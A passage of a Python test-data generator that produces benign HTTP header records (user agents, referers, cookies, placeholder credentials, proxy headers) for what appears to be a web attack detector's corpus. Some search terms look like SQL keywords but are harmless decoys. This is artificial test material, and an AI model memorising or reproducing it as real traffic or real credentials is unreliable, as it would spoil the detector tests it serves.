    "Mozilla/5.0 (iPad; CPU OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/468.1.0.56.78;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E219 "
    "Instagram 334.0.4.32.98 (iPhone15,3; iOS 17_4; en_US; en; scale=3.00; 1290x2796; 606385148)",
    "Mozilla/5.0 (Linux; Android 12; SAMSUNG SM-A525F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 "
    "Chrome/124.0.6367.243 Electron/30.0.9 Safari/537.36 Sonic",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/1.7.00.13456 "
    "Chrome/102.0.5005.197 Electron/19.1.8 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
    "Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Datadog Agent/7.54.0",
    "python-requests/2.32.3",
    "python-httpx/0.27.0",
    "aiohttp/3.9.5 Python/3.12",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Pro Build/AP2A.240605.024)",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Go-http-client/2.0",
    "curl/8.8.0",
    "Wget/1.21.4",
    "PostmanRuntime/7.39.0",
    "insomnia/2023.5.8",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Java/21.0.3",
    "Ruby",
    "Faraday v2.9.0",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Jeeves/3.4.1 (iOS 17.5.1; iPhone14,2; build 2024.06.112) Alamofire/5.9.1",
    "Jeeves/3.4.0 (Android 14; SM-G991B; build 5120) okhttp/4.12.0",
    "aws-sdk-go-v2/1.30.0 os/linux lang/go#1.22.4 md/GOOS#linux md/GOARCH#amd64 api/sts#1.29.1",
    "Boto3/1.34.131 md/Botocore#1.34.131 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.9 "
    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.131",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.6478.55 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; WOW64; Trident/4.0; SLCC2; .NET CLR 2.0.50727; "
    ".NET CLR 3.5.30729; .NET CLR 3.0.30729; Media Center PC 6.0; .NET4.0C; .NET4.0E)",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/538.1 (KHTML, like Gecko) Version/6.0 TV Safari/538.1",
    "GitHub-Hookshot/8a3c1f2",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "grpc-node-js/1.10.9",
    "Grafana/11.0.0",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "Prometheus/2.53.0",
]

_REFERER_BASES = [
    "https://www.google.com/search?q={q}&rlz=1C1GCEU_enUS1080US1080&oq={q}&gs_lcrp=EgZjaHJvbWUyBggAEEUYOTIH"
    "CAEQABiABNIBCDQ1MTJqMGo3qAIAsAIA&sourceid=chrome&ie=UTF-8",
    "https://www.bing.com/search?q={q}&form=QBLH&sp=-1&ghc=1&lq=0&pq={q}&sc=10-14&qs=n&sk=&cvid="
    "7D1C4A0B62E94F7F8B1E1B2A3C4D5E6F",
    "https://duckduckgo.com/?q={q}&t=h_&ia=web",
    "https://search.yahoo.com/search?p={q}&fr=yfp-t&fp=1&toggle=1&cop=mss&ei=UTF-8",
    "https://www.ecosia.org/search?method=index&q={q}",
    "https://app.example.com/reports?from=2024-06-01&to=2024-06-30&group_by=team&sort=-created_at&"
    "filter%5Bstatus%5D=active&filter%5Bq%5D={q}",
    "https://mail.google.com/mail/u/0/#inbox/FMfcgzGxSlZqWbTcBcLcDqWnGlRbXkMq",
    "https://click.mailchimpapp.example/track/click/30010842/app.example.com?p=eyJzIjoiS2RzX3pXLTBvQmhfSmRxc"
    "1JXZFlRc0pvQmxvIiwidiI6MSwicCI6IntcInVcIjozMDAxMDg0MixcInZcIjoxfSJ9",
    "https://links.email.example.net/ls/click?upn=u001.Xk7dM2q-2FQ5pW-2BrZk9y3fP8hJ0eN4VbTcLmA6sRgUoYiQwE1zD",
    "https://app.example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=june_release_{q}&"
    "utm_content=cta_button&utm_term=slack+bot&mc_cid=8f3a21b0c4&mc_eid=1a2b3c4d5e",
    "https://www.example.com/blog/announcing-v3?utm_source=twitter&utm_medium=social&utm_campaign={q}&"
    "fbclid=IwAR2xYz8Q1kJ7pLm0nN3vB4cD5eF6gH7iJ8kL9mN0oP1qR2sT3uV4wX5yZ6",
    "https://slack.com/oauth/v2/authorize?client_id=1234567890.9876543210&scope=chat%3Awrite%2Ccommands&"
    "user_scope=identity.basic&redirect_uri=https%3A%2F%2Fapp.example.com%2Fauth%2Fslack%2Fcallback&state={q}",
    "https://accounts.google.com/o/oauth2/v2/auth?response_type=code&client_id=1234-abc.apps.googleusercontent"
    ".com&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid%20email%20profile&state={q}&"
    "nonce=n-0S6_WzA2Mj&prompt=consent",
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=6731de76-14a6-49ae-97bc-"
    "6eba6914391e&response_type=code&redirect_uri=https%3A%2F%2Fapp.example.com%2Fsso&response_mode=query&"
    "scope=openid%20offline_access&state={q}",
    "https://t.co/{q}",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fapp.example.com%2Fpricing%3Fref%3D{q}&h=AT0kYz1x2w3v",
    "https://www.linkedin.com/feed/update/urn:li:activity:7201234567890123456/?trk={q}",
    "https://news.ycombinator.com/item?id=40612345",
    "https://www.reddit.com/r/Slack/comments/1d8xq2z/{q}/",
    "https://github.com/example-org/jeeves/issues?q=is%3Aissue+is%3Aopen+{q}+label%3Abug&page=2",
    "https://stackoverflow.com/questions/78512345/{q}?noredirect=1#comment138456789_78512345",
    "https://app.example.com/admin/users/search?q={q}&page=3&per_page=25&sort=name&order=asc",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s&list=PL{q}",
    "android-app://com.google.android.gm/",
    "https://app.example.com/me/?tab=notifications&highlight={q}",
]

_SEARCH_TERMS = [
    "slack+bot+user+directory", "how%20to%20reset%20my%20password", "jeeves%20oauth%20token%20expired",
    "select+all+users+in+team", "union%20station%20parking", "drop+down+menu+not+working",
    "or+1+night+stay+berlin", "cat+food+order+status", "%22admin+users%22+search", "script+writing+jobs",
    "java+runtime+download", "php+developer+remote", "C%23+vs+Java", "what%27s+new+in+v3",
    "caf%C3%A9+m%C3%BCnchen", "%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97",
]

_IPV4 = ["203.0.113.45", "198.51.100.23", "192.0.2.201", "10.12.0.7", "172.16.4.19", "100.64.12.3",
         "81.2.69.142", "2.125.160.216", "89.160.20.112", "175.16.199.1"]
_IPV6 = ["2001:db8:85a3::8a2e:370:7334", "2001:db8::1", "2a02:8108:1cc0:5f00:d5c3:9a2e:1f4b:7c10",
         "2600:1700:3c1:f2a0:e1b9:44c3:2b0e:91d3", "fe80::1ff:fe23:4567:890a", "::ffff:203.0.113.9",
         "2001:db8:abcd:12:0:0:0:1"]

_LANGS = [
    "en-US,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "es-419,es;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "ja,en-US;q=0.9,en;q=0.8", "zh-CN,zh;q=0.9,en;q=0.8,zh-TW;q=0.7", "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7",
    "nl-NL,nl;q=0.9,en-US;q=0.8,en;q=0.7,de;q=0.6", "sv-SE,sv;q=0.9,en-US;q=0.8,en;q=0.7,nb;q=0.6,da;q=0.5",
    "pl,en-US;q=0.7,en;q=0.3", "ru-RU,ru;q=0.9,uk;q=0.8,en-US;q=0.7,en;q=0.6", "tr-TR,tr;q=0.9",
    "he-IL,he;q=0.9,en-US;q=0.8,en;q=0.7,ar;q=0.6", "hi-IN,hi;q=0.9,en-IN;q=0.8,en;q=0.7", "*",
    "en", "it-IT,it;q=0.9,en-US;q=0.8,en;q=0.7,fr;q=0.6,de;q=0.5,es;q=0.4",
    "zh-Hant-TW,zh-Hant;q=0.9,zh;q=0.8,en;q=0.7", "sr-Latn-RS,sr-Latn;q=0.9,sr;q=0.8,en;q=0.7",
    "en-US", "fil-PH,fil;q=0.9,en;q=0.8", "nb-NO,nb;q=0.9,no;q=0.8,nn;q=0.7,en-US;q=0.6,en;q=0.5",
    "de-CH, de;q=0.9, fr-CH;q=0.8, en;q=0.5", "en-AU,en;q=0.9,*;q=0.5",
]

_COOKIES = [
    ("_ga", "GA1.1.1843306591.1717411200"), ("_ga_7K2M9XQ1Z3", "GS1.1.1718900000.12.1.1718900321.0.0.0"),
    ("_gid", "GA1.2.77312094.1718000000"), ("_fbp", "fb.1.1717411200123.1234567890"),
    ("_gcl_au", "1.1.1283746551.1717411200"), ("ajs_anonymous_id", "%22b3e1c0a2-7f4d-4e8b-9a61-2c5d8e7f1a09%22"),
    ("ajs_user_id", "%22U04ABCD1234%22"), ("_hjSessionUser_3456789",
                                          "eyJpZCI6ImQ0ZTFmMmEzLWI1YzYtNTdkOC05ZTBmLTFhMmIzYzRkNWU2ZiIsImNyZWF0Z"
                                          "WQiOjE3MTc0MTEyMDAwMDAsImV4aXN0aW5nIjp0cnVlfQ=="),
    ("OptanonConsent", "isGpcEnabled=0&datestamp=Thu+Jun+20+2024+10%3A15%3A02+GMT%2B0200+(Central+European+Summer"
                       "+Time)&version=202403.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=5d2c1e0f-"
                       "3b4a-4c9d-8e7f-6a5b4c3d2e1f&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1"
                       "%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0&AwaitingReconsent=false"),
    ("OptanonAlertBoxClosed", "2024-06-20T08:15:02.123Z"),
    ("CookieConsent", "{stamp:%27hx7Q2kLm0pN3vB4cD5eF6gH7iJ8kL9mN0oP1qR2sT3uV4wX5yZ6A==%27%2Cnecessary:true%2C"
                      "preferences:true%2Cstatistics:false%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2C"
                      "utc:1718871302123%2Cregion:%27de%27}"),
    ("cookieyes-consent", "consentid:Y2E5ZDhmN2UtNmQ1Yy00YjNhLTkyODEtN2Y2ZTVkNGMzYjJh,consent:yes,action:yes,"
                          "necessary:yes,functional:yes,analytics:no,performance:no,advertisement:no"),
    ("euconsent-v2", "CP-abcAP-abcAAGABCENA1EsAP_gAEPgAAqIJNtX_H__bX9j-_5_aft0eY1P9_r37uQzDhfNs-8F3L_W_LwX52E7NF36"
                     "tq4KmR4ku1LBIUNlHMHUDUmwaokVryHsak2cpzNKJ7BEknMZOydYGF9vmxtj-YKY7_5_d3bx2D-t_9v-39z3z81Xn3d"),
    ("ab_test", "checkout_v2%3Dvariant_b%7Conboarding%3Dcontrol%7Cpricing_page%3Dtreatment_3"),
    ("optimizelyEndUserId", "oeu1717411200123r0.8473629105"),
    ("_vwo_uuid_v2", "D4E1F2A3B5C6D7E8F9A0B1C2D3E4F5A6B|f1e2d3c4b5a697887766554433221100"),
    ("statsig_stable_id", "8c7d2a1e-9b3f-4e6a-b5c4-d3e2f1a0b9c8"),
    ("ld_uid", "%7B%22key%22%3A%22U04ABCD1234%22%2C%22anonymous%22%3Afalse%7D"),
    ("split_treatments", "{\"new_search\":\"on\",\"dark_mode_default\":\"off\",\"beta_dashboard\":\"control\"}"),
    ("session", "eyJfcGVybWFuZW50Ijp0cnVlLCJ1c2VyX2lkIjoiVTA0QUJDRDEyMzQiLCJ0ZWFtIjoiVDAxMjM0In0.ZnQ3Ag.Xk7d"
                "M2q2FQ5pW2BrZk9y3fP8hJ0"),
    ("sessionid", "k3j9x2m8q7w1v5z0p4n6b8c2d7f1g3h5"), ("PHPSESSID", "9u2kq0f7l5r3m1t8c6v4b2n0x9"),
    ("JSESSIONID", "8F3A21B0C4D5E6F7A8B9C0D1E2F3A4B5.node01"), ("connect.sid",
                                                              "s%3AqW3rT5yU7iO9pA1sD3fG5hJ7kL9zX1c.Vb2Nm4Qw6Er8Ty0"
                                                              "Ui2Op4As6Df8Gh0Jk2Lz4Xc6Vb8"),
    ("_session_id", "a1b2c3d4e5f60718293a4b5c6d7e8f90"), ("ASP.NET_SessionId", "fj2kx0m3q5w1v4z7p9n6b8c2"),
    ("laravel_session", "eyJpdiI6IlF3ZXJ0eVVpb3BBc2RmZz09IiwidmFsdWUiOiJaeGN2Ym5tMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1"
                        "ub3BxcnN0dXZ3eHl6IiwibWFjIjoiMGFiY2RlZjEyMzQ1Njc4OWFiY2RlZjEyMzQ1Njc4OWFiY2RlZiJ9"),
    ("csrftoken", "Zq8xW2mN4vB6cD8eF0gH2iJ4kL6mN8oP"), ("XSRF-TOKEN",
                                                      "eyJpdiI6IkFCQ0RFRkdISUpLTE1OT1A9PSIsInZhbHVlIjoiYWJjIn0%3D"),
    ("_csrf", "dG9rZW4tMTcxODkwMDAwMC1hYmNkZWY"), ("__Host-csrf", "v1.q7Wm2xN9kL4pR8tY3uZ6"),
    ("theme", "dark"), ("locale", "pt-BR"), ("tz", "America%2FSao_Paulo"), ("sidebar_collapsed", "true"),
    ("recent_searches", "%5B%22dana%20smith%22%2C%22on-call%20rota%22%2C%22team%3Aplatform%22%5D"),
    ("prefs", "%7B%22density%22%3A%22compact%22%2C%22notifications%22%3A%7B%22email%22%3Afalse%2C%22slack%22"
              "%3Atrue%7D%7D"),
    ("last_visit", "2024-06-20T08%3A15%3A02Z"), ("cart", "W3siaWQiOjQyLCJxdHkiOjJ9LHsiaWQiOjcsInF0eSI6MX1d"),
    ("__cf_bm", "kF2xW9mN4vB6cD8eF0gH2iJ4kL6mN8oP-1718900000-1.0.1.1-Zq8xW2mN4vB6cD8eF0gH2iJ4kL6mN8oPqR"),
    ("_cfuvid", "Xk7dM2q2FQ5pW2BrZk9y3fP8hJ0eN4Vb-1718900000123-0.0.1.1-604800000"),
    ("AWSALB", "Zq8xW2mN4vB6cD8eF0gH2iJ4kL6mN8oP/qR2sT3uV4wX5yZ6+A1bC2dE3fG4hI5jK6lM7nO8pQ=="),
    ("intercom-id-abc123", "5d2c1e0f-3b4a-4c9d-8e7f-6a5b4c3d2e1f"), ("intercom-session-abc123", ""),
    ("mp_1a2b3c4d5e6f_mixpanel", "%7B%22distinct_id%22%3A%20%22U04ABCD1234%22%2C%22%24device_id%22%3A%20%22"
                                 "18f2a3b4c5d-0e1f2a3b4c5d6e-26001d51-1fa400-18f2a3b4c5d%22%2C%22%24initial_referrer"
                                 "%22%3A%20%22https%3A%2F%2Fwww.google.com%2F%22%7D"),
    ("amplitude_id_fef1e872c952688acd962d30aa545b9eexample.com",
     "eyJkZXZpY2VJZCI6IjVkMmMxZTBmLTNiNGEtNGM5ZCIsInVzZXJJZCI6bnVsbCwib3B0T3V0IjpmYWxzZX0="),
    ("__stripe_mid", "b3e1c0a2-7f4d-4e8b-9a61-2c5d8e7f1a09c1d2e3"), ("__stripe_sid",
                                                                    "f1e2d3c4-b5a6-9788-7766-554433221100a1b2c3"),
    ("hubspotutk", "5d2c1e0f3b4a4c9d8e7f6a5b4c3d2e1f"), ("__hstc",
                                                        "123456789.5d2c1e0f3b4a4c9d8e7f6a5b4c3d2e1f.1717411200123."
                                                        "1718800000123.1718900000123.7"),
    ("wp-settings-1", "libraryContent%3Dbrowse%26editor%3Dhtml%26posts_list_mode%3Dlist"),
    ("remember_user_token", "W1sxMjM0NV0sIiQyYSQxMiRhYmNkZWZnaGlqa2xtbm9wcXJzdHV1IiwiMTcxODkwMDAwMC4xMjMiXQ%3D%3D"
                            "--0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"),
    ("g_state", "{\"i_l\":0,\"i_p\":1718907502123}"), ("NID", "514=Zq8xW2mN4vB6cD8eF0gH2iJ4kL6mN8oPqR2sT3uV4wX"),
    ("returnTo", "%2Fadmin%2Fusers%2Fsearch%3Fq%3Dsmith%26page%3D2"),
    ("oauth_state", "eyJub25jZSI6Im4tMFM2X1d6QTJNaiIsInJlZGlyZWN0IjoiL21lLyJ9"),
]

_AUTHS = [
    "Basic " + base64.b64encode(b"svc-reports:Vb2Nm4Qw6Er8Ty0Ui2Op").decode(),
    "Basic " + base64.b64encode(b"dana.smith@example.com:correct horse battery staple").decode(),
    "Basic " + base64.b64encode(b"api:key-3ax6xnjp29jd6fds4gc373sgvjxteol0").decode(),
    "Basic " + base64.b64encode(b"admin:p@ss'w0rd\"!#$%&").decode(),
    "Digest username=\"dana\", realm=\"jeeves-api\", nonce=\"dcd98b7102dd2f0e8b11d0f600bfb0c093\", "
    "uri=\"/api/users?page=2\", qop=auth, nc=00000001, cnonce=\"0a4f113b\", "
    "response=\"6629fae49393a05397450978507c4ef1\", opaque=\"5ccc069c403ebaf9f0171e9517f40e41\"",
    "Token token=\"4f8c2a1e9b3d7f6a5c4e3d2b1a0f9e8d\", email=\"ops@example.com\"",
    "Token 9944b09199c62bcf9418ad846dd0e4bbdfc6ee4b",
    "ApiKey c2VydmljZS1hY2NvdW50OjEyMzQ1Njc4OTA=",
    "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240620/eu-central-1/execute-api/aws4_request, "
    "SignedHeaders=host;x-amz-content-sha256;x-amz-date, "
    "Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
    "Hawk id=\"dh37fgj492je\", ts=\"1353832234\", nonce=\"j4h3g2\", ext=\"some-app-ext-data\", "
    "mac=\"6R4rV5iE+NPoym+WwjeHzjAGXUtLNIxmo1vpMofpLAE=\"",
    "OAuth oauth_consumer_key=\"xvz1evFS4wEEPTGEFPHBog\", oauth_nonce=\"kYjzVBB8Y0ZFabxSWbWovY3uYSQ2pTgmZeNu2VS4cg\", "
    "oauth_signature=\"tnnArxj06cWHq44gCs1OSKk%2FjY%3D\", oauth_signature_method=\"HMAC-SHA1\", "
    "oauth_timestamp=\"1318622958\", oauth_token=\"370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb\", "
    "oauth_version=\"1.0\"",
    "SSWS 00QCjAl4MlV-WPXM-ABCDEFGhijklmnopqrstuvwxyz0",
    "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCg==",
    "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw==",
    "Splunk 1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d",
    "GoogleLogin auth=DQAAAGgA7Zg8CTN",
    "HMAC-SHA256 Credential=key-42, SignedHeaders=date;host, Signature=3b1f0c9a8e7d6c5b4a39281706f5e4d3",
    "Key 3a1e8f0c2b4d6e8f0a1c3e5f7b9d1f3a",
    "Basic " + base64.b64encode(b"union-pacific:select-2024").decode(),
    "DPoP eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCJ9.eyJzdWIiOiJVMDRBQkNEMTIzNCJ9.c2lnbmF0dXJl",
]

_ORIGINS = [
    "https://app.example.com", "https://admin.example.com", "http://localhost:3000", "http://127.0.0.1:5173",
    "https://example.slack.com", "https://app.slack.com", "null", "https://staging-app.example.com:8443",
    "capacitor://localhost", "ionic://localhost", "app://jeeves-desktop", "https://jeeves--pr-1234.preview.example.dev",
    "chrome-extension://abcdefghijklmnopabcdefghijklmnop", "https://[2001:db8::1]:8443", "https://xn--caf-dma.example",
]

_CONTENT_TYPES = [
    "application/json", "application/json; charset=utf-8", "application/json;charset=UTF-8",
    "application/json; charset=\"utf-8\"", "application/vnd.api+json", "application/merge-patch+json",
    "application/json; profile=\"https://schemas.example.com/user/v2\"", "application/json; version=2",
    "application/vnd.example.v3+json; charset=utf-8", "application/json; odata.metadata=minimal",
    "application/json; charset=utf-8; boundary=none", "application/problem+json",
    "application/json; ext=\"https://jsonapi.org/ext/atomic\"",
]

_CUSTOM = [
    ("X-Api-Version", "2024-06-01"), ("X-Api-Version", "v2"), ("X-Api-Version", "3.14.0-beta.2+build.5121"),
    ("X-Client-Version", "web@4.128.0 (commit 8f3a21b)"), ("X-Client-Version", "ios/3.4.1 (2024.06.112)"),
    ("X-Request-Id", "5d2c1e0f-3b4a-4c9d-8e7f-6a5b4c3d2e1f"), ("X-Correlation-ID", "req_01J0X7K9QMZ3T8VW2B4C6D8E0F"),
    ("X-Amzn-Trace-Id", "Root=1-66741f2a-3b4a4c9d8e7f6a5b4c3d2e1f;Parent=53995c3f42cd8ad8;Sampled=1"),
    ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7"),
    ("X-Datadog-Trace-Id", "1234567890123456789"), ("X-B3-TraceId", "80f198ee56343ba864fe8b2a57d3eff7"),
    ("X-Requested-With", "XMLHttpRequest"), ("X-Tenant-Id", "T01234ABCD"), ("X-Device-Id",
                                                                              "A1B2C3D4-E5F6-7A8B-9C0D-1E2F3A4B5C6D"),
    ("X-Forwarded-Proto", "https"), ("X-Forwarded-Host", "app.example.com"), ("X-Forwarded-Port", "443"),
    ("X-Timezone", "America/Los_Angeles"), ("X-App-Build", "2024.06.20-rc.1 (linux/amd64; go1.22.4)"),
    ("X-Idempotency-Key", "b3e1c0a2-7f4d-4e8b-9a61-2c5d8e7f1a09"), ("X-Slack-Retry-Reason", "http_timeout"),
    ("X-Client-Info", "{\"os\":\"Android 14\",\"model\":\"Pixel 8\",\"locale\":\"en_US\"}"),
    ("X-Feature-Flags", "new_search=on; dark_mode=off; beta_dashboard=control"),
    ("X-Screen", "1920x1080@2x; dpr=2; colors=24"),
    ("Sec-CH-UA", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\""),
    ("Sec-CH-UA-Platform", "\"Windows\""), ("DNT", "1"), ("Via", "1.1 varnish (Varnish/7.5), 1.1 vegur"),
    ("CF-Connecting-IP", "2a02:8108:1cc0:5f00:d5c3:9a2e:1f4b:7c10"), ("True-Client-IP", "203.0.113.45"),
]


def _benign_rec(i: int, kind: str) -> dict[str, Any]:
    need_json = kind == "content-type"
    rec = _route(i, need_json)
    headers = {"User-Agent": COVER_UAS[i % len(COVER_UAS)], "Accept": rec["headers"]["Accept"],
               "Accept-Language": "en-US,en;q=0.9"}
    if "Content-Type" in rec["headers"]:
        headers["Content-Type"] = rec["headers"]["Content-Type"]
    rec["headers"] = headers
    return rec


def _xff(i: int) -> str:
    n = 1 + i % 4
    hops = []
    for j in range(n):
        if (i + j) % 3 == 0:
            hops.append(_IPV6[(i + j * 2) % len(_IPV6)])
        else:
            hops.append(_IPV4[(i * 3 + j) % len(_IPV4)])
    return ", ".join(hops)


def _forwarded(i: int) -> str:
    ip6 = _IPV6[i % len(_IPV6)]
    ip4 = _IPV4[i % len(_IPV4)]
    shapes = [
        f"for=\"[{ip6}]:4711\";proto=https;host=app.example.com",
        f"for={ip4};proto=https;by=\"[2001:db8::fe]\"",
        f"for={ip4}, for=\"[{ip6}]\", for=unknown",
        "for=\"_hidden\";by=\"_edge-lb-3\";proto=http",
        f"for={ip4}:51234;host=\"app.example.com:8443\";proto=https",
        f"for=\"{ip4}\";proto=https, for=10.0.0.12;proto=http",
    ]
    return shapes[i % len(shapes)]


def _cookie_header(i: int) -> str:
    n = 2 + i % 6
    picks = [_COOKIES[(i * 5 + j * 7) % len(_COOKIES)] for j in range(n)]
    seen: set[str] = set()
    parts = []
    for name, value in picks:
        if name not in seen:
            seen.add(name)
            parts.append(f"{name}={value}")
    return "; ".join(parts)


def _cycled(values: list[str]) -> Callable[[int], str]:
    return lambda n: values[n % len(values)]


# each benign kind's header and its n-th value (the "custom" kind: a header of its own, from _CUSTOM)
BENIGN_HEADERS: dict[str, tuple[str, Callable[[int], str]]] = {
    "ua": ("User-Agent", _cycled(BENIGN_UAS)),
    "referer": ("Referer", lambda n: _REFERER_BASES[n % len(_REFERER_BASES)].replace(
        "{q}", _SEARCH_TERMS[(n * 3) % len(_SEARCH_TERMS)])),
    "xff": ("X-Forwarded-For", _xff),
    "realip": ("X-Real-IP", _cycled(_IPV4 + _IPV6)),
    "forwarded": ("Forwarded", _forwarded),
    "lang": ("Accept-Language", _cycled(_LANGS)),
    "cookie": ("Cookie", _cookie_header),
    "auth": ("Authorization", _cycled(_AUTHS)),
    "origin": ("Origin", _cycled(_ORIGINS)),
    "content-type": ("Content-Type", _cycled(_CONTENT_TYPES)),
}
BENIGN_KINDS: list[tuple[str, int]] = [
    ("ua", 60), ("referer", 60), ("xff", 35), ("realip", 12), ("forwarded", 24), ("lang", 30), ("cookie", 80),
    ("auth", 21), ("origin", 15), ("content-type", 13), ("custom", 50),
]


def benign() -> Iterator[dict[str, Any]]:
    i = 0
    for kind, count in BENIGN_KINDS:
        for n in range(count):
            rec = _benign_rec(i, kind)
            if kind in BENIGN_HEADERS:
                name, value_of = BENIGN_HEADERS[kind]
                value = value_of(n)
            else:
                name, value = _CUSTOM[n % len(_CUSTOM)]
            rec["headers"][name] = value
            yield {**rec, "id": f"{SET}-benign-{kind}-{n + 1:04d}", "category": "benign",
                   "placement": f"header:{name}", "sub": kind}
            i += 1
